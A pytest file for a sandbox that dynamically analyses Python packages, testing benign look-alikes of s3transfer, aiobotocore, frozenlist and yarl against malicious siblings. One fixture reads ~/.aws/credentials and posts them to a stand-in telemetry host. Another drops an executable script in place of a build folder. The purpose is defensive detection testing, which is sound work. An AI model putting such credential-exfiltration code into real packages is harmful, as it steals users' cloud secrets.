"""Benign look-alikes of two dynamic false positives seen on popular releases, each through the
CLI in the real sandbox next to a malicious sibling that does the same and one thing more.

- s3transfer / aiobotocore: calling the SDK (a transfer manager, an async client factory) walks
  botocore's credential chain and reads ~/.aws/credentials in the execute phase; nothing is sent.
  Sibling: the same read, then the file's content posted to a host of the package's choosing.
- frozenlist / yarl: their builds copy the package tree into a build folder (shutil.copytree
  copies each folder's mode: chmod 0755 on folders). Sibling: a "build folder" made, removed and
  replaced by a script of the same name, which is then chmod +x (a dropped executable hiding
  behind a folder's name).

TEST FIXTURES, NOT MALWARE: the "exfiltration" goes to a reserved example name that only the
network simulator answers.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from builders import pypi_sdist
from clirun import run_cli_json
from pkgtrace.sandbox import layout

pytestmark = pytest.mark.sandbox

AWS = f"{layout.HOME}/.aws/credentials"

# botocore's session: both shared files are loaded (its full_config), then the chain picks the
# environment's keys before the files'.
_SDK = '''import asyncio, configparser, os


def _chain(profile):
    files = {}
    for path in ("~/.aws/credentials", "~/.aws/config"):
        c = configparser.RawConfigParser()
        c.read([os.path.expanduser(path)])
        for section in (profile, "profile " + profile, "default"):
            if c.has_section(section):
                files.setdefault(path, dict(c.items(section)))
    if os.environ.get("AWS_ACCESS_KEY_ID"):
        return {"aws_access_key_id": os.environ["AWS_ACCESS_KEY_ID"]}
    return files.get("~/.aws/credentials") or files.get("~/.aws/config")


class TransferManager:
    """s3transfer's shape: the client is made (and credentials resolved) on construction."""

    def __init__(self, client=None, config=None):
        self.credentials = _chain(os.environ.get("AWS_PROFILE", "default"))

    def upload(self, filename, bucket, key):
        return {"bucket": str(bucket), "key": str(key), "signed": self.credentials is not None}


class AioSession:
    """aiobotocore's shape: an async client factory."""

    async def create_client(self, service_name, region_name=None):
        await asyncio.sleep(0)
        return {"service": str(service_name), "credentials": _chain("default") is not None}
'''

_SEND = '''

import json as _json, urllib.request as _rq


def report_usage():
    creds = _chain("default") or {}
    try:
        _rq.urlopen(_rq.Request("http://sdk-telemetry.example/v1", data=_json.dumps(creds).encode()),
                    timeout=5)
    except Exception:
        pass
'''

# frozenlist's and yarl's builds: the package tree copied into a build folder, folder modes kept.
_BUILD = '''import os, shutil, tempfile
from setuptools import setup

build = tempfile.mkdtemp(prefix="build-")
shutil.copytree("{mod}", os.path.join(build, "{mod}"))
os.chmod(os.path.join(build, "{mod}"), 0o755)
for root, dirs, _files in os.walk(build):
    for d in dirs:
        os.chmod(os.path.join(root, d), 0o755)
setup(name="{name}", version="1.0.0", packages=["{mod}"])
'''

# The sibling: a folder of that name is made (so the trace shows a mkdir), removed, and a script
# written in its place and made executable.
_DROP = '''import os, tempfile
from setuptools import setup

build = tempfile.mkdtemp(prefix="build-")
target = os.path.join(build, "{mod}")
os.mkdir(target)
os.rmdir(target)
with open(target, "w") as f:
    f.write("#!/bin/sh\\necho pwned\\n")
os.chmod(target, 0o755)
setup(name="{name}", version="1.0.0", packages=["{mod}"])
'''


def _analyze(artifact: Path, results: Path) -> dict:
    return run_cli_json("analyze", "pypi", "--local", str(artifact), "--mode", "dynamic",
                        "--results", str(results), "--timeout", "120")


def _sdk_package(tmp_path: Path, name: str, init: str) -> Path:
    mod = name.replace("-", "_")
    setup = f"from setuptools import setup\nsetup(name={name!r}, version='1.0.0', packages=[{mod!r}])\n"
    return pypi_sdist(tmp_path, name, "1.0.0", {"setup.py": setup, f"{mod}/__init__.py": init})


def _build_package(tmp_path: Path, name: str, setup_template: str) -> Path:
    mod = name.replace("-", "_")
    return pypi_sdist(tmp_path, name, "1.0.0", {
        "setup.py": setup_template.format(mod=mod, name=name),
        f"{mod}/__init__.py": "from ._list import FrozenList\n",
        f"{mod}/_list.py": "class FrozenList(list):\n    frozen = False\n",
        f"{mod}/_helpers/__init__.py": "",
    })


def _execute_reads(docs: dict) -> set[str]:
    return {f["path"] for f in docs["report"]["dynamic"]["phases"]["execute"]["files"] if f["read"]}


def test_sdk_resolving_its_credentials_when_called_is_benign(tmp_path, results):
    docs = _analyze(_sdk_package(tmp_path, "s3like", _SDK), results)
    assert AWS in _execute_reads(docs)  # the SDK's read really happened, in execute
    v = docs["report"]["verdict"]
    assert v["label"] == "benign", json.dumps(v["findings"], indent=1)[:3000]
    assert set(v["rules_fired"]) <= {"DYN-BAIT-READ-EXECUTE"}


def test_sdk_that_sends_the_credentials_it_read_is_theft(tmp_path, results):
    docs = _analyze(_sdk_package(tmp_path, "s3like-telemetry", _SDK + _SEND), results)
    assert AWS in _execute_reads(docs)
    v = docs["report"]["verdict"]
    assert v["label"] == "malicious", json.dumps(v["findings"], indent=1)[:3000]
    theft = next(f for f in v["findings"] if f["rule"] == "DYN-CREDENTIAL-THEFT")
    assert AWS in theft["evidence"]["read"] and "sdk-telemetry.example" in theft["evidence"]["sent"]
    assert "DYN-BAIT-SENT" in v["rules_fired"]


def test_build_chmod_of_copied_folders_is_benign(tmp_path, results):
    docs = _analyze(_build_package(tmp_path, "frozenlike", _BUILD), results)
    install = docs["report"]["dynamic"]["phases"]["install"]
    folder_chmods = [e for e in install["file_events"] if e["op"] == "chmod" and e["executable"]
                     and e["path"].startswith("/tmp/build-") and e["path"].endswith("/frozenlike")]
    assert folder_chmods, "the build's chmod of its folders was not traced"
    v = docs["report"]["verdict"]
    assert "DYN-DROP-EXECUTABLE" not in v["rules_fired"], v["findings"]
    assert v["label"] == "benign", json.dumps(v["findings"], indent=1)[:3000]


def test_script_dropped_where_a_folder_was_is_a_dropped_executable(tmp_path, results):
    docs = _analyze(_build_package(tmp_path, "frozendrop", _DROP), results)
    v = docs["report"]["verdict"]
    hits = [f for f in v["findings"] if f["rule"] == "DYN-DROP-EXECUTABLE"]
    assert any(f["evidence"]["path"].endswith("/frozendrop") for f in hits), v["findings"]
    assert v["label"] != "benign"
